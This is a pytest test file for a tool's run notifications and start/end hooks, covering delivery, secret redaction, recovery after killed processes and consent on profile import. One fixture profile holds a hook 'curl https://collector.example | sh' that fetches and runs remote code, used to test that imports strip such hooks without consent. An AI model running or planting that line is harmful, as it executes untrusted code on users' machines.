"""Notifications at the end of runs, over real processes, a real web server and a real mail server; and hooks."""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from unittest import mock

import pytest

from taoprofiles.errors import TaoprofError
from taoprofiles.holds import manage
from taoprofiles.holds.hold import Hold, new_hold
from taoprofiles.holds.records import HoldRecords, Notifications
from taoprofiles.runs import notify
from taoprofiles.storage import atomic, files
from taoprofiles.storage.locks import Lock
from taoprofiles.storage.paths import Context
from taoprofiles.system import processes
from tests.support.commands import one_clear_error
from tests.support.engine import until
from tests.support.guard_process import GuardProcess, held
from tests.support.home import require
from tests.support.sandbox import Sandbox, gone, kill
from tests.support.servers import Desktop, MailReceiver, NotificationServer, SessionBus, WebReceiver

pytestmark = pytest.mark.slow


@pytest.fixture
def web() -> Iterator[WebReceiver]:
    with WebReceiver() as receiver:
        yield receiver


@pytest.fixture
def desktop(sandbox: Sandbox) -> Desktop:
    played = Desktop(sandbox.tao.parent)
    sandbox.environ |= played.environ
    return played


def add_keys(sandbox: Sandbox, keys: str) -> None:
    """Add keys to profile b."""
    path = sandbox.profiles / "b.toml"
    path.write_text(path.read_text().replace("[[mounts]]", f"{keys}\n[[mounts]]", 1))


def pending(sandbox: Sandbox) -> list[Path]:
    return list((sandbox.state / "notifications").glob("*"))


def settled(sandbox: Sandbox) -> None:
    until(lambda: sandbox.holds() == [] and not pending(sandbox), "all ends have been told", details=sandbox.tree)


# What is sent


def test_a_run_tells_its_name_outcome_duration_metrics_and_results(sandbox: Sandbox, web: WebReceiver) -> None:
    results = sandbox.root / "projects/b/x"
    results.mkdir(parents=True)
    line = {"date": "DATE", "time": "TIME", "status": "RUNNING", "epoch": 12, "max_epoch": 80, "kpi": {"miou": 0.71}}
    script = (
        "began=$(date +%s); while [ $(date +%s) = $began ]; do sleep 0.05; done; "  # the file has whole seconds
        f"cd {results}; date -u '+%m/%d/%Y %H:%M:%S' >now; read day clock <now; "
        f"echo '{json.dumps(line)}' | sed \"s,DATE,$day,;s/TIME/$clock/\" >status.json; exit 3"
    )
    words = ("sh", "-c", script, "unet", "train", "-r", "/workspace/tao-experiments/x")
    done = sandbox.run("run", "b", "--notify", web.url, "--", *words)
    assert (done.returncode, done.stderr) == (3, "")
    (message,) = web.messages
    assert (message["title"], message["type"]) == ("b failed (exit status 3)", "failure")
    lines = message["message"].splitlines()
    assert re.fullmatch(r"run [2-9a-z]{5} failed \(exit status 3\) after [\d.]+ s", lines[0])
    assert lines[1:] == ["epoch 12/80, miou 0.71", f"results: {os.uname().nodename}:{results}"]
    assert not pending(sandbox)


def test_mail_desktop_and_web_are_told_the_same_once(sandbox: Sandbox, web: WebReceiver, desktop: Desktop) -> None:
    with MailReceiver() as mail:
        add_keys(sandbox, f'notify = ["desktop", "${{env:MAIL}}", "{web.url}"]')
        environ = {"MAIL": mail.url}
        assert sandbox.run("run", "b", "--", "true", environ=environ, stdin=subprocess.DEVNULL).stderr == ""
        (title, body), (message,), (letter,) = desktop.shown[0], web.messages, mail.mails
        assert len(desktop.shown) == 1
        assert (title, message["title"], letter["subject"]) == ("b finished",) * 3
        assert body == message["message"]
        assert letter.get_body(("plain",)).get_content().splitlines() == body.splitlines()
        assert letter["to"] == "ana@example.org"
        sandbox.run("run", "b", "--notify", "none", "--", "true", environ=environ, check=True)
        sandbox.run("run", "b", "--notify", "desktop", "--", "true", environ=environ, check=True)
        assert (len(desktop.shown), len(web.messages), len(mail.mails)) == (2, 1, 1)
        sandbox.profile("b")
        add_keys(sandbox, 'notify = "none"')
        assert sandbox.run("run", "b", "--", "true", check=True).stderr == ""


def test_a_detached_run_tells_its_end_and_warns_in_its_log(sandbox: Sandbox, web: WebReceiver) -> None:
    refused = "json://127.0.0.1:1/hooks/secret-path"
    run = sandbox.detach("sh", "-c", "exit 4", options=("--notify", web.url, "--notify", refused))
    assert sandbox.run("wait", run).returncode == 4
    settled(sandbox)
    assert [message["title"] for message in web.about(run)] == ["b failed (exit status 4)"]
    log = sandbox.run("logs", run).stdout
    assert "warning" in log and "json://***" in log and "secret-path" not in log, log


def test_a_run_that_ends_in_the_queue_is_told_but_has_no_hook(sandbox: Sandbox, web: WebReceiver) -> None:
    add_keys(sandbox, f"on_end = 'echo $TAOPROF_RUN_ID >>{sandbox.root}/hook'")
    task = ("unet", "train", "-r", "/workspace/tao-experiments/x")
    options = ("--wait", "--notify", web.url)
    first = sandbox.detach("sh", "-c", "exec sleep 1000", *task, options=options)
    second = sandbox.detach("sh", "-c", "exit 3", *task, options=options, printed="waiting")
    third = sandbox.detach("sh", "-c", "exit 4", *task, options=options, printed="waiting")
    sandbox.run("stop", second, "--yes", check=True)
    assert sandbox.run("wait", second).returncode == 143
    sandbox.run("stop", first, "--yes", check=True)
    assert sandbox.run("wait", third).returncode == 4
    settled(sandbox)
    for run, status in ((first, 143), (second, 143), (third, 4)):
        assert [message["title"] for message in web.about(run)] == [f"b failed (exit status {status})"]
    assert sorted((sandbox.root / "hook").read_text().split()) == sorted([first, third])


@pytest.fixture
def bus(tmp_path: Path) -> Iterator[SessionBus]:
    for program in ("dbus-daemon", "busctl"):
        require(shutil.which(program), f"{program} is not installed")
    with SessionBus(tmp_path) as bus:
        yield bus


def test_the_notification_server_of_a_desktop_shows_the_end_once(sandbox: Sandbox, bus: SessionBus) -> None:
    sandbox.environ["DBUS_SESSION_BUS_ADDRESS"] = bus.address
    task = ("sh", "-c", "exit 3", "unet", "train", "-r", "/workspace/tao-experiments/x & y")
    words = ("run", "b", "--notify", "desktop", "--", *task)
    # Without a server on the bus there is no desktop session, and that is no failure.
    assert sandbox.run(*words).stderr == ""
    with NotificationServer(bus.address) as server:
        assert sandbox.run(*words).stderr == ""
        run = sandbox.detach(*task, options=("--notify", "desktop"))
        sandbox.run("wait", run)
        settled(sandbox)
        assert [shown[:3] for shown in server.shown] == [("taoprofiles", "", "b failed (exit status 3)")] * 2
        assert server.shown[1][3].startswith(f"run {run} failed (exit status 3) after")
        assert server.shown[1][3].splitlines()[-1].endswith("/projects/b/x &amp; y")  # it may have markup
        server.error = "org.freedesktop.DBus.Error.LimitsExceeded"
        done = sandbox.run(*words)
        assert (done.returncode, len(server.shown)) == (3, 2)
        assert "warning: run" in done.stderr and "desktop failed: " in done.stderr and "it is broken" in done.stderr


def test_a_desktop_without_busctl_is_told_by_notify_send(bus: SessionBus, tmp_path: Path) -> None:
    program = shutil.which("notify-send")
    require(program, "notify-send is not installed")
    (tmp_path / "notify-send").symlink_to(str(program))
    environ = {"PATH": str(tmp_path), "DBUS_SESSION_BUS_ADDRESS": bus.address}
    title, body = "-b finished", "a < b\nC:\\nine"
    assert notify.notify_desktop(environ, title, body) == ""
    with NotificationServer(bus.address) as server:
        assert notify.notify_desktop(environ, title, body) == ""
        assert [shown[2:] for shown in server.shown] == [(title, "a &lt; b\nC:\\nine")]


# What goes wrong


def test_what_cannot_be_told_is_said_before_the_run_starts(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    for target, text in {
        "slack": "neither 'desktop' nor a URL",
        "mailto:ana:token-of-ana@example.org": "neither 'desktop' nor a URL",
        "ana:token-of-ana@smtp://example.org": "not a URL that Apprise understands",
        "nosuch://token-of-ana": "not a URL that Apprise understands",
        "${env:NOT_SET}": "'NOT_SET' is not set",
        "${NO_VARIABLE}": "no variable 'NO_VARIABLE'",
    }.items():
        done = sandbox.run("run", "b", "--notify", target, "--", "touch", "started")
        one_clear_error(done, 2)
        assert text in done.stderr and "token-of-ana" not in done.stderr
        add_keys(sandbox, f"notify = '{target}'")
        if "NO_VARIABLE" not in target:  # which no environment could make valid
            done = sandbox.run("run", "b", "--", "true")
            assert (done.returncode, "warning" in done.stderr, text in done.stderr) == (0, True, True), done
            assert "token-of-ana" not in done.stderr
        sandbox.profile("b")
    one_clear_error(sandbox.run("run", "b", "--notify", "none", "--notify", "desktop", "--", "true"), 2)
    assert not (sandbox.root / "started").exists()


def test_without_the_extra_a_url_is_an_error_and_a_profiles_one_a_warning(sandbox: Sandbox, desktop: Desktop) -> None:
    without = sandbox.folder / "without"
    (without / "importlib").mkdir(parents=True)
    (without / "sitecustomize.py").write_text("import sys\nsys.modules['apprise'] = None\n")
    environ = {"PYTHONPATH": str(without)}
    options = {"environ": environ, "stdin": subprocess.DEVNULL}
    done = sandbox.run("run", "b", "--notify", "json://host", "--", "true", **options)
    one_clear_error(done, 2)
    assert "pip install 'taoprofiles[notify]'" in done.stderr
    add_keys(sandbox, 'notify = ["json://host", "desktop"]')
    done = sandbox.run("run", "b", "--", "true", **options)
    assert (done.returncode, done.stderr.count("\n")) == (0, 1), done.stderr
    assert "pip install 'taoprofiles[notify]'" in done.stderr
    assert [title for title, _ in desktop.shown] == ["b finished"]


def test_who_does_not_answer_is_a_warning_and_the_others_are_told(
    sandbox: Sandbox, web: WebReceiver, desktop: Desktop, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = ended_run(sandbox)
    notify.new_apprise()  # its import takes a while
    monkeypatch.setattr(notify, "SEND_TIMEOUT", 3)
    web.may_answer.clear()
    Path(f"{desktop.place}.fails").write_text("Call failed: it is broken\n")
    with WebReceiver() as refusing, WebReceiver() as other:
        refusing.status = 500
        targets = dict(enumerate([web.url, "desktop", refusing.url, other.url]))
        began = time.monotonic()
        problems = notify._send_all(Context(sandbox.environ), run, targets)
        assert time.monotonic() - began < 20
        assert len(other.messages) == 1
    assert sorted(problem.partition(" failed: ")[0] for problem in problems) == [
        "the notification by desktop",
        "the notification by json://***",
        "the notification by json://***",
    ]
    assert any("within 3 s" in problem for problem in problems)
    assert any("it is broken" in problem for problem in problems)
    assert "abcdefgh" not in str(problems)


def ended_run(sandbox: Sandbox) -> Hold:
    sandbox.run("run", "b", "--", "true", check=True)
    return next(HoldRecords(sandbox.context).ended_runs())


def test_ctrl_c_ends_only_the_waiting_for_who_does_not_answer(sandbox: Sandbox, web: WebReceiver) -> None:
    web.may_answer.clear()
    with sandbox.terminal(sandbox.taoprof, "run", "b", "--notify", web.url, "--", "sh", "-c", "exit 5") as terminal:
        until(lambda: web.messages, "the message is there")
        terminal.send("\x03")
        output = terminal.wait_for("in the background")
        assert "Traceback" not in output
        assert terminal.finish()[0] == 5
    web.may_answer.set()
    settled(sandbox)
    assert len(web.messages) == 1


def test_a_damaged_or_unreadable_file_keeps_no_hold(sandbox: Sandbox, web: WebReceiver) -> None:
    for content in (b"", b'{"v": 1, "targets": 3, "on_end": "", "run": null}'):
        tao, run = sandbox.in_run("b", "--notify", web.url)
        (wanted,) = sandbox.records.glob("*.notify")
        wanted.write_bytes(content)
        tao.end(2)
        assert run.wait(20) == 2
        assert sandbox.holds() == [] and not list(sandbox.records.iterdir())
        (sandbox.state / "notifications").mkdir(exist_ok=True)
        (sandbox.state / "notifications/abcde.json").write_bytes(content)
        sandbox.run("status", check=True)
        until(lambda: not pending(sandbox), "it is deleted")
    assert web.messages == []


@pytest.mark.parametrize(
    ("owner", "name", "failure", "is_told_at_once"),
    [
        (atomic, "replace", mock.Mock(side_effect=TaoprofError("no space left on device")), True),
        (files, "try_read", lambda *_: (b"", "permission denied"), False),
        (Notifications, "publish", mock.Mock(side_effect=KeyboardInterrupt), False),
    ],
    ids=["full disk", "unreadable", "killed"],
)
def test_an_end_that_can_hardly_be_recorded_is_told_once(
    sandbox: Sandbox, web: WebReceiver, monkeypatch: pytest.MonkeyPatch,
    owner: object, name: str, failure: object, is_told_at_once: bool,
) -> None:  # fmt: skip
    """Also by the next command, if what is to be told cannot be read now, or whoever records the end is killed."""
    records, hold = HoldRecords(sandbox.context), new_hold(sandbox.context, "run", profile="b", since=time.time())
    with Lock(sandbox.context.lock):
        os.close(records.create(hold, targets=[web.url]))
        hold.ended, hold.status = time.time(), 9
        with monkeypatch.context() as patch:
            patch.setattr(owner, name, failure)
            with suppress(KeyboardInterrupt):
                records.end(hold)
            if is_told_at_once:
                until(lambda: web.messages, "it is told")
    assert bool(web.messages) == is_told_at_once
    settled(sandbox)
    assert [run["status"] for run in sandbox.json("history", "--all")["data"]["runs"]] == [9]
    assert [message["title"] for message in web.messages] == ["b failed (exit status 9)"]


# Secrets


def test_a_target_is_shown_nowhere(sandbox: Sandbox, web: WebReceiver) -> None:
    secret, reference = "abcdefgh", "${env:HOOK}"
    add_keys(sandbox, f'notify = ["{web.url}", "{reference}"]')
    environ = {"HOOK": f"{web.url}-2"}
    run = sandbox.detach("sh", "-c", f"echo told {web.url} and $HOOK", environ=environ)
    sandbox.run("wait", run, check=True)
    settled(sandbox)
    sandbox.run("run", "a", "--", "true", "--notify", web.url, check=True)  # of a taoprof inside the run
    for words in (
        *(("show", "b"), ("show", "b", "--json"), ("show", "b", "--toml"), ("history", "--all"), ("logs", run)),
        *(("history", "--all", "--json"), ("status", "--json"), ("render", "b", "--to", "docker", "--image", "i")),
        *(("list", "--json"), ("check", "b"), ("env", "b"), ("diff", "a", "b"), ("set", "b", "network=x", "--json")),
    ):
        done = sandbox.run(*words, environ=environ)
        assert secret not in done.stdout + done.stderr, (words, done)
    files = [path for path in sandbox.state.rglob("*") if path.is_file() and secret.encode() in path.read_bytes()]
    # The texts of profiles, as with every other secret in them; all are the user's alone.
    assert {path.parent.name for path in files} <= {"objects", "templates"}, files
    assert {path.stat().st_mode & 0o777 for path in files} <= {0o600, 0o400}
    assert sandbox.json("show", "b", environ=environ)["data"]["notify"] == ["json://***", reference]
    assert secret in sandbox.run("show", "b", "--toml", "--reveal").stdout


def test_what_is_stored_while_a_run_is_active_is_private(sandbox: Sandbox, web: WebReceiver) -> None:
    tao, run = sandbox.in_run("b", "--notify", web.url)
    (wanted,) = sandbox.records.glob("*.notify")
    assert wanted.stat().st_mode & 0o777 == 0o600
    web.may_answer.clear()
    tao.end(2)
    (published,) = until(lambda: pending(sandbox), "it is being sent")
    assert (published.stat().st_mode & 0o777, published.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    web.may_answer.set()
    assert run.wait(20) == 2
    assert pending(sandbox) == []


# Whoever is killed


def test_the_guard_tells_the_end_of_a_run_whose_own_process_was_killed(sandbox: Sandbox, web: WebReceiver) -> None:
    add_keys(sandbox, f"on_end = 'echo $TAOPROF_OUTCOME >>{sandbox.root}/hook'")
    with GuardProcess(sandbox) as guard:
        tao, run = sandbox.in_run("b", "--notify", web.url, client=True)
        tao.reads()
        client = tao.client()
        run.kill()
        run.wait()
        tao.end(0)
        guard.wait_for_loops(1)
        assert web.messages == []  # its client works on
        kill(client)
        until(lambda: web.messages, "the guard tells it", seconds=10, details=guard.log_text)
        until(lambda: not pending(sandbox), "all is done")
        assert [message["title"] for message in web.messages] == ["b ended, exit status unknown"]
        assert (sandbox.root / "hook").read_text() == "unknown\n"
        manage.release(sandbox.context, held(sandbox))  # which wakes it
        until(lambda: "Z" not in states_of_children(guard.process.pid), "it leaves no zombie", seconds=10)
    assert len(web.messages) == 1


def states_of_children(pid: int) -> str:
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    return "".join(Path(f"/proc/{child}/stat").read_text().rpartition(")")[2].split()[0] for child in children)


def test_without_a_guard_the_next_command_tells_it_and_the_one_after_it_what_failed(
    sandbox: Sandbox, web: WebReceiver
) -> None:
    tao, run = sandbox.in_run("b", "--notify", web.url, "--notify", "json://127.0.0.1:1/hooks/abcdefgh")
    run.kill()
    run.wait()
    kill(tao.pid())
    settled(sandbox)  # by 'status'
    assert [message["title"] for message in web.messages] == ["b ended, exit status unknown"]
    done = sandbox.run("list")
    assert "the notification by json://*** failed" in done.stderr and "abcdefgh" not in done.stderr


def test_a_killed_sender_is_replaced_and_does_nothing_twice_that_was_noted(
    sandbox: Sandbox, web: WebReceiver, desktop: Desktop
) -> None:
    add_keys(sandbox, f"on_end = 'echo once >>{sandbox.root}/hook'")
    web.may_answer.clear()
    words = ("run", "b", "--notify", "desktop", "--notify", web.url, "--", "sh", "-c", "exit 6")
    run = sandbox.start(sandbox.taoprof, *words)
    until(lambda: web.messages and desktop.shown, "both were told")
    (path,) = pending(sandbox)
    until(lambda: "sent 0" in path.read_text(), "the first is noted")
    children = Path(f"/proc/{run.pid}/task/{run.pid}/children").read_text().split()
    (sender,) = [pid for pid in children if b"runs.notify" in Path(f"/proc/{pid}/cmdline").read_bytes()]
    kill(int(sender))
    assert run.wait(20) == 6
    web.may_answer.set()
    settled(sandbox)
    # The web server was not noted, as its answer had not come. The desktop was.
    assert [message["title"] for message in web.messages] == ["b failed (exit status 6)"] * 2
    assert len(desktop.shown) == 1
    assert (sandbox.root / "hook").read_text() == "once\n"


def test_senders_that_are_killed_again_and_again_are_given_up(sandbox: Sandbox, web: WebReceiver) -> None:
    web.may_answer.clear()
    sandbox.start(sandbox.taoprof, "run", "b", "--notify", web.url, "--", "true")
    for number in range(1, notify.ATTEMPTS + 1):
        until(lambda number=number: sandbox.holds() == [] and len(web.messages) == number, "one more was sent")
        for pid in pids_of_senders(sandbox):
            kill(pid)
    settled(sandbox)
    assert len(web.messages) == notify.ATTEMPTS
    assert "given up" in sandbox.run("list").stderr


def pids_of_senders(sandbox: Sandbox) -> list[int]:
    return [
        pid
        for pid, home in processes.with_variable(os.getuid(), "HOME")
        if home == str(sandbox.root) and b"runs.notify" in Path(f"/proc/{pid}/cmdline").read_bytes()
    ]


@pytest.mark.parametrize("seed", range(2))
def test_whenever_the_run_or_the_guard_is_killed_the_end_is_told_once(
    sandbox: Sandbox, web: WebReceiver, seed: int
) -> None:
    chance = random.Random(seed)
    words = ("run", "b", "--detach", "--notify", web.url, "--", "sh", "-c", "sleep 0.1; exit 3")
    guard = GuardProcess(sandbox)
    guard.__enter__()
    try:
        for _ in range(4):
            starter = sandbox.start(sandbox.taoprof, *words, stdout=subprocess.PIPE)
            time.sleep(chance.uniform(0, 0.6))
            victim = chance.choice(("starter", "run", "guard"))
            if victim == "guard":
                kill(guard.process.pid)
                guard.process.wait()
                guard = GuardProcess(sandbox)
                guard.__enter__()
            elif victim == "run":
                for path in sandbox.records.glob("?????.json"):
                    kill(json.loads(path.read_bytes())["pid"])
            else:
                starter.kill()
            starter.wait(20)
        until(
            lambda: not pending(sandbox) and not list(sandbox.records.glob("[!.]*")),
            "the guard has told all ends",
            details=lambda: f"{guard.log_text()}{list(sandbox.records.iterdir())}",
        )
    finally:
        guard.__exit__()
    ended = {run["id"]: run["status"] for run in sandbox.json("history", "--all")["data"]["runs"]}
    titles = {run: [message["title"] for message in web.about(run)] for run in ended}
    wanted = {None: "b ended, exit status unknown", 0: "b finished"}
    assert titles == {run: [wanted.get(status, f"b failed (exit status {status})")] for run, status in ended.items()}, (
        titles
    )
    assert len(web.messages) == len(ended)


# Hooks


def test_hooks_get_the_facts_and_run_once_in_the_runs_folder(sandbox: Sandbox) -> None:
    add_keys(sandbox, "on_start = 'env >start.$TAOPROF_NAME'\non_end = 'env >end.$TAOPROF_NAME; pwd >>pwd'")
    script, task = (
        "test -e start.b && ! test -e end.b && exit 7",
        ("unet", "train", "-r", "/workspace/tao-experiments/x"),
    )
    done = sandbox.run("run", "b", "--", "sh", "-c", script, *task)
    assert (done.returncode, done.stderr) == (7, "")
    start, end = (
        dict(line.partition("=")[::2] for line in (sandbox.root / f"{kind}.b").read_text().splitlines())
        for kind in ("start", "end")
    )
    (run,) = sandbox.json("history", "--all")["data"]["runs"]
    facts = {"TAOPROF_RUN_ID": run["id"], "TAOPROF_NAME": "b", "TAOPROF_RESULTS": f"{sandbox.root}/projects/b/x"}
    outcome = {"TAOPROF_OUTCOME": "failed", "TAOPROF_STATUS": "7"}
    assert facts.items() <= start.items() and not outcome.keys() & start.keys()
    assert (facts | outcome).items() <= end.items() and end["TAOPROF_DURATION"].isdigit()
    assert "TAOPROF_RUN" not in start | end  # or they would be work of the run
    assert (sandbox.root / "pwd").read_text() == f"{sandbox.root}\n"


def test_a_hook_that_fails_or_hangs_is_a_warning(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    add_keys(sandbox, "on_start = 'echo bad start: password=s3cret-of-ana >&2; exit 3'\non_end = 'nosuchprogram'")
    done = sandbox.run("run", "b", "--", "true", stdin=subprocess.DEVNULL)
    assert done.returncode == 0
    start, end = done.stderr.splitlines()
    assert start.endswith("warning: on_start: exit status 3 (bad start: password=***)")
    assert "on_end: exit status 127" in end
    monkeypatch.setattr(notify, "HOOK_TIMEOUT", 0.2)
    run = ended_run(sandbox)
    assert "did not finish within 0.2 s" in notify.run_hook("on_end", "sleep 1000 & sleep 1000", run, os.environ)


@pytest.mark.parametrize("end", ["Ctrl-C", "SIGTERM", "SIGHUP", "stop"])
def test_a_run_that_is_ended_while_on_start_runs_leaves_nothing(sandbox: Sandbox, end: str) -> None:
    add_keys(sandbox, f"on_start = 'echo $$ >{sandbox.root}/start; sleep 1000'\non_end = 'touch {sandbox.root}/end'")
    options = ["--detach"] * (end == "stop")
    with sandbox.terminal(sandbox.taoprof, "run", "b", *options, "--", "touch", "started") as terminal:
        until(lambda: (sandbox.root / "start").exists() and (sandbox.root / "start").read_text(), "the hook runs")
        if end == "stop":
            sandbox.run("stop", "-", check=True)
        elif end == "Ctrl-C":
            terminal.send("\x03")
        else:
            terminal.process.send_signal(signal.Signals[end])
        terminal.process.wait(20)
    until(lambda: gone(int((sandbox.root / "start").read_text())), "the hook is gone too")
    assert sandbox.holds() == [] and not list(sandbox.records.iterdir())
    assert sandbox.json("history", "--all")["data"]["runs"] == []
    assert not (sandbox.root / "started").exists() and not (sandbox.root / "end").exists()


def pids_in(path: Path) -> list[int]:
    """Return the process ids that a hook writes, in one line."""
    return list(map(int, until(lambda: path.exists() and path.read_text().split(), "the hook runs")))


@pytest.mark.parametrize("key", ["on_start", "on_end"])
def test_a_hook_ends_with_the_process_that_waits_for_it_although_that_is_killed(sandbox: Sandbox, key: str) -> None:
    file = sandbox.root / "pids"
    add_keys(sandbox, f"{key} = 'sleep 1000 & echo $$ $! $PPID >{file}; wait'")
    run = sandbox.start(sandbox.taoprof, "run", "b", "--", "true")
    *hook, waiting = pids_in(file)
    kill(waiting)  # taoprof, or the sender
    until(lambda: all(map(gone, hook)), "the hook and what it has started are gone")
    run.wait(20)
    settled(sandbox)
    assert len(sandbox.json("history", "--all")["data"]["runs"]) == 1


def test_what_a_hook_leaves_running_stays(sandbox: Sandbox) -> None:
    file = sandbox.root / "pids"
    add_keys(sandbox, f"on_start = 'sleep 1000 & echo $! >{file}'")
    sandbox.run("run", "b", "--", "true", check=True)
    (left,) = pids_in(file)
    assert not gone(left)
    kill(left)


def test_hooks_are_for_runs_and_none_follows_a_command_that_never_started(sandbox: Sandbox) -> None:
    add_keys(sandbox, f"on_end = 'touch {sandbox.root}/ended'")
    done = sandbox.run("shell", "b", environ={"SHELL": "/bin/true"})
    assert done.returncode == 0
    assert sandbox.run("run", "b", "--", "nosuchcommand").returncode == 127
    assert not (sandbox.root / "ended").exists() and sandbox.holds() == []
    assert not list(sandbox.records.iterdir())


# Profiles of others

FOREIGN = """\
schema = 1
layout = "custom"
mounts = []
# whom to tell
notify = ["json://collector.example/x", "desktop"]
on_start = "curl https://collector.example | sh"
on_end = "true"
"""


def test_import_takes_commands_and_targets_of_others_only_with_consent(sandbox: Sandbox) -> None:
    path = sandbox.root / "theirs.toml"
    path.write_text(FOREIGN)
    keys = ("notify", "on_start", "on_end")
    done = sandbox.run("import", "theirs.toml", "--name", "c", check=True)
    assert "left out: notify, on_start, on_end" in done.stderr and "--yes" in done.stderr
    kept = (sandbox.profiles / "c.toml").read_text()
    assert not any(key in kept for key in keys) and "# whom to tell" in kept
    assert sandbox.json("import", "theirs.toml", "--name", "d")["ok"]
    assert not any(key in (sandbox.profiles / "d.toml").read_text() for key in keys)
    sandbox.run("import", "theirs.toml", "--name", "e", "--yes", check=True)
    assert (sandbox.profiles / "e.toml").read_text() == FOREIGN
    for answer, is_kept in (("n", False), ("", False), ("y", True)):
        with sandbox.terminal(sandbox.taoprof, "import", "theirs.toml", "--name", "f", "--force") as terminal:
            shown = terminal.wait_for("Keep it? [y/N]")
            assert "on_start: curl https://collector.example | sh" in shown
            assert "notify: json://collector.example/x" in shown
            terminal.send(f"{answer}\n")
            assert terminal.finish()[0] == 0
        text = (sandbox.profiles / "f.toml").read_text()
        assert all((key in text) is is_kept for key in keys), text


def test_what_a_colleague_gets_to_read_has_no_targets_and_no_commands(sandbox: Sandbox) -> None:
    (sandbox.profiles / "c.toml").write_text(FOREIGN)
    done = sandbox.run("show", "c", "--toml", check=True)
    assert not any(word in done.stdout for word in ("notify", "on_start", "on_end", "collector"))
    assert sandbox.json("show", "c", "--toml")["data"]["hidden"] == ["notify", "on_start", "on_end"]


def test_keys_are_validated_and_can_be_set(sandbox: Sandbox) -> None:
    sandbox.run("set", "b", "notify=desktop", "on_end=echo $HOME", check=True)
    data = sandbox.json("show", "b")["data"]
    assert (data["notify"], data["on_end"]) == (["desktop"], "echo $HOME")
    for value in ("3", "[3]", "{}", '["${"]', '"${NO_VARIABLE}"'):
        sandbox.profile("c", f'schema = 1\nlayout = "custom"\nnotify = {value}\n')
        one_clear_error(sandbox.run("show", "c"), 3)
